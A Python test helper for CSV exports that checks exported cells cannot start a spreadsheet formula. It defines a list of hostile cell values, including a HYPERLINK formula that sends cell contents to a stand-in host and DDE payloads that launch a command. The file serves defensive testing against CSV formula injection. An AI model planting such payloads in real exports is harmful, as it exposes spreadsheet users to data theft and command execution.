"""Hostile cell values for CSV exports, and the check that a written CSV cannot start a formula."""
from __future__ import annotations

import csv
import io
import re

from models.csv_export import FORMULA_TRIGGERS

# What a SIP From user, a complaint text or a seat name may carry into an export (each fits the
# 32 characters a call record keeps of a caller).
HOSTILE = [
    '=HYPERLINK("http://ev.il/?"&A1)',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
E164 = re.compile(r"\+[1-9][0-9]{1,14}")


def parse(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"), newline="")))


def assert_no_formula(rows: list[dict], phone_columns=()) -> None:
    """No cell starts a formula, except a well-formed E.164 number in a phone column."""
    for row in rows:
        for column, cell in row.items():
            if column in phone_columns and E164.fullmatch(cell):
                continue
            assert not cell.startswith(FORMULA_TRIGGERS), (column, cell)


def assert_kept(rows: list[dict], column: str, value: str) -> None:
    """The hostile value is there, neutralised by one leading quote and otherwise intact."""
    assert "'" + value in [row[column] for row in rows], (column, value, [row[column] for row in rows])
